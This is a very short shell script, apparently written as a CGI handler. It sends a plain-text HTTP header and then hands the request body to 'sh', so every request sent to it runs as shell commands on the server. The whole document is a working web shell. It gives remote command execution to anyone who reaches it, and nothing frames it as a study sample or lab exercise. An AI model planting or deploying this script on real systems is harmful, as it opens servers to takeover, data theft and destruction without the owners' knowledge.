#!/bin/sh
# Runs what is sent to it as a shell script.
printf 'Content-Type: text/plain\r\n\r\n'
exec sh 2>&1
